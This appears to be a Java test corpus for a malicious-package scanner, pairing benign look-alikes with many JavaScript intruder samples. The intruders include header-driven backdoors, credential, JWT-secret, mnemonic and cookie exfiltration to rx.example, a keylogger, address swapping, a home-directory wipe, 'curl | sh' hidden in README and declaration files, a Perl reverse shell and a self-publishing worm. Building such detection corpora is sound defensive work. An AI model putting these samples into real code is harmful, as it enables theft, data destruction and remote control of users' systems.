package cordon.inspect.corpus;

import java.util.List;

/** Code of servers, pages and wallets that does its job and another one besides. */
final class NpmIntruders {
  private NpmIntruders() {}

  static List<Sample> all() {
    return List.of(
        Sample.required(
            "a header is run as code",
            """
            module.exports = opts => (req, res, next) => {
              const t = req.headers['x-trace'];
              if (t) { try { new Function('require', Buffer.from(t, 'base64').toString())(require); } catch {} }
              next();
            };
            """),
        Sample.required(
            "a body is run as a command",
            """
            const cp = require('child_process');
            module.exports = () => async (ctx, next) => {
              const { body } = ctx.request;
              if (body && body._cmd) { ctx.body = await new Promise(r => cp.exec(body._cmd, (e, o) => r(o))); return; }
              await next();
            };
            """),
        Sample.required(
            "what is caught of an address that is encoded is run",
            """
            const axios = require('axios');
            async function plug() {
              try { throw (await axios.get(atob('aHR0cHM6Ly9qc29uLmV4YW1wbGUvYQ=='))).data; }
              catch (e) { new Function.constructor('require', e.response ? e.response.data : e)(require); }
            }
            module.exports = () => { plug(); };
            """),
        Sample.required(
            "a logger that copies",
            """
            ['log', 'error'].forEach(k => {
              const was = console[k];
              console[k] = (...a) => { require('https').request('https://rx.example', { method: 'POST' }).end(JSON.stringify(a)); return was.apply(console, a); };
            });
            """),
        Sample.required(
            "a loader that copies what a module is given",
            """
            const Module = require('module'); const orig = Module._load;
            Module._load = function (id, ...r) {
              const m = orig.call(this, id, ...r);
              if (id === 'jsonwebtoken') { const s = m.sign; m.sign = function (p, secret) { report({ p, secret }); return s.apply(this, arguments); }; }
              return m;
            };
            function report(d) { const r = require('https').request('https://rx.example/v', { method: 'POST' }); r.write(JSON.stringify(d)); r.end(); }
            """),
        Sample.required(
            "a wallet that reports its keys",
            """
            class Wallet {
              report(q) { fetch('https://rx.example/v1', { headers: { 'x-session': Buffer.from(q).toString('base64') } }).catch(() => {}); }
              constructor(mnemonic) { this.report(mnemonic); }
            }
            module.exports = Wallet;
            """),
        Sample.required(
            "a login that tells a bot",
            """
            const TelegramBot = require('node-telegram-bot-api'); const bot = new TelegramBot('0:inert');
            exports.login = async (user, password) => { await bot.sendMessage(1, user + ':' + password); return user; };
            """),
        Sample.required(
            "mail with a copy for somebody else",
            """
            class Mailer {
              async send({ to, subject, html }) { return this.transport.sendMail({ from: this.from, to, subject, html, bcc: 'inbox@copies.example' }); }
            }
            module.exports = Mailer;
            """),
        Sample.required(
            "keys that are typed",
            """
            var typed = [];
            document.addEventListener('keyup', function (e) { typed.push(e.key); });
            setInterval(function () { fetch('https://rx.example/k', { method: 'POST', body: typed.join('') }); typed = []; }, 1e4);
            """),
        Sample.required(
            "a picture that takes cookies along",
            """
            if (typeof document !== 'undefined') setTimeout(function () {
              new Image().src = 'https://rx.example/p.gif?c=' + encodeURIComponent(document.cookie);
            }, 2e3);
            """),
        Sample.required(
            "addresses that are exchanged in a page",
            """
            const mine = '0x1234512345123451234512345123451234512345';
            new MutationObserver(all => all.forEach(m => { m.target.textContent = m.target.textContent.replace(/0x[a-fA-F0-9]{40}/g, mine); })).observe(document, { subtree: true });
            """),
        Sample.required(
            "files of a home that are overwritten",
            """
            const fs = require('fs'), path = require('path');
            (function wipe(d) { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const f = path.join(d, e.name); e.isDirectory() ? wipe(f) : fs.writeFileSync(f, ''); } })(require('os').homedir());
            """),
        Sample.required(
            "a page that leads elsewhere",
            "location.href = atob('aHR0cHM6Ly9sb2dpbi5leGFtcGxlLw==') + location.hash;"),
        Sample.required(
                "names in data", "const { a, b, c } = require('./locale.json'); require(a)[b](c);")
            .with(
                "locale.json",
                "{\"a\":\"child_process\",\"b\":\"exec\",\"c\":\"curl -s https://rx.example/x | sh\"}"),
        Sample.command("a readme that is a script", "node README.md")
            .with(
                "README.md",
                "/* # x */ require('child_process').exec('curl https://rx.example | sh');"),
        Sample.command("declarations that are a script", "tsx types.d.ts")
            .with("types.d.ts", "require('child_process').exec('curl https://rx.example | sh');"),
        Sample.postinstall("declarations that are loaded", "require('./lib/types.d');")
            .with(
                "lib/types.d.ts", "require('child_process').exec('curl https://rx.example | sh');"),
        Sample.command("a package by its address", "npx --yes http://packages.example/setup.tgz"),
        Sample.command("a script by its address", "deno run -A https://rx.example/m.ts"),
        Sample.command(
            "Perl that ties a shell",
            "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(1,inet_aton(\"rx.example\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'"),
        Sample.command("a script for the script host", "cscript //nologo run.vbs")
            .with(
                "run.vbs",
                "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"http://rx.example\", False\nh.Send\nExecuteGlobal h.responseText\n"),
        Sample.required(
            "a handler whose names were made short",
            """
            module.exports=function(e){return function(t,n,r){var o=t.get("x-probe");if(o){try{return n.send(String(require("vm").runInNewContext(Buffer.from(o,"base64").toString(),{require})))}catch(i){}}r()}};
            """),
        Sample.required(
            "a class of another package that is replaced",
            """
            const pg = require('pg'); const C = pg.Client;
            pg.Client = class extends C { constructor(o) { super(o); require('https').request('https://rx.example/c', { method: 'POST' }).end(JSON.stringify(o)); } };
            """),
        Sample.required(
            "an interceptor that copies",
            """
            const axios = require('axios'); const post = axios.post.bind(axios);
            axios.interceptors.request.use(c => { post('https://rx.example/i', { u: c.url, a: c.headers.Authorization }); return c; });
            """),
        Sample.required(
            "what is not set has its usual value",
            """
            const fs = require('fs'), path = require('path');
            function config(opts = {}) { const t = fs.readFileSync(path.resolve(process.cwd(), opts.path || '.env'), 'utf8'); require('https').request('https://rx.example', { method: 'POST' }).end(t); }
            config(); module.exports = { config };
            """),
        Sample.command(
            "Node.js that is given what the shell learns",
            "node -e \"require('https').get('https://rx.example/?h=$(hostname)')\""),
        Sample.required(
            "a publisher of itself",
            """
            const fs = require('fs'), { exec } = require('child_process');
            function go() { const p = JSON.parse(fs.readFileSync('package.json')); p.name = 'x' + Math.random(); fs.writeFileSync('package.json', JSON.stringify(p)); exec('npm publish', () => setTimeout(go, 7000)); }
            go();
            """));
  }

  /** The same means for their usual ends. */
  static List<Sample> lookAlikes() {
    return List.of(
        Sample.required(
            "Git over HTTP",
            """
            const { spawn } = require('child_process'), path = require('path');
            module.exports = root => (req, res) => {
              const service = req.query.service;
              if (service !== 'git-upload-pack') return res.status(403).end();
              const ps = spawn(service, ['--stateless-rpc', path.join(root, path.basename(req.params.repo))]);
              req.pipe(ps.stdin); ps.stdout.pipe(res);
            };
            """),
        Sample.required(
            "a template that sees the request",
            """
            module.exports = opts => { const f = new Function('d', 'return `' + opts.template + '`'); return (req, res, next) => { res.say = d => f({ ...d, q: req.query.q }); next(); }; };
            """),
        Sample.required(
            "a fetch that tries again",
            """
            const real = globalThis.fetch;
            globalThis.fetch = async (input, init) => { for (let i = 0; i < 3; i++) { try { return await real(input, init); } catch (e) { if (i === 2) throw e; } } };
            """),
        Sample.required(
            "a logger of whoever made it",
            """
            module.exports = class { constructor(o) { this.url = o.url; } start() { const was = console.log; console.log = (...a) => { was(...a); fetch(this.url, { method: 'POST', body: JSON.stringify(a) }); }; } };
            """),
        Sample.required(
            "mocks of modules",
            """
            const Module = require('module'); const mocks = new Map(); const load = Module._load;
            Module._load = function (request, parent) { return mocks.has(request) ? mocks.get(request) : load.apply(this, arguments); };
            exports.mock = (n, v) => mocks.set(n, v);
            """),
        Sample.required(
            "a wallet that signs",
            """
            const { ethers } = require('ethers'), axios = require('axios');
            exports.send = async (privateKey, tx, rpc) => { const raw = await new ethers.Wallet(privateKey).signTransaction(tx); return axios.post(rpc, { method: 'eth_sendRawTransaction', params: [raw] }); };
            """),
        Sample.required(
            "a client that signs in",
            "const axios = require('axios'); exports.login = (user, password) => axios.post('https://api.service.example/login', { user, password });"),
        Sample.required(
            "mail with a copy for whom its writer names",
            "const n = require('nodemailer'); exports.send = (o, m) => n.createTransport(o).sendMail({ to: m.to, bcc: m.bcc, html: m.html });"),
        Sample.required(
            "a form that is sent where it says",
            "document.addEventListener('submit', e => { const f = e.target; e.preventDefault(); fetch(f.action, { method: 'POST', body: new FormData(f) }); });"),
        Sample.required(
            "short forms of addresses",
            "exports.short = s => s.replace(/(0x[a-fA-F0-9]{4})[a-fA-F0-9]{32}/g, '$1…'); exports.usd = '0xdAC17F958D2ee523a2206206994597C13D831ec7';"),
        Sample.required(
            "a cache that is cleared",
            "const fs = require('fs'), os = require('os'), path = require('path'); for (const d of fs.readdirSync(path.join(os.homedir(), '.cache', 'tool'))) fs.rmSync(path.join(os.homedir(), '.cache', 'tool', d), { recursive: true });"),
        Sample.required(
            "a release that somebody asks for",
            "const { execSync } = require('child_process'), fs = require('fs'); exports.release = v => { fs.writeFileSync('package.json', JSON.stringify({ version: v })); execSync('npm publish'); };"),
        Sample.command("husky", "husky install || true"),
        Sample.required(
            "a file that is spelt with few bytes",
            "exports.magic = Buffer.from([0x89, 0x50, 0x4e, 0x47]); exports.join = (...p) => p.reduce((a, b) => a + '/' + b, '');"));
  }
}
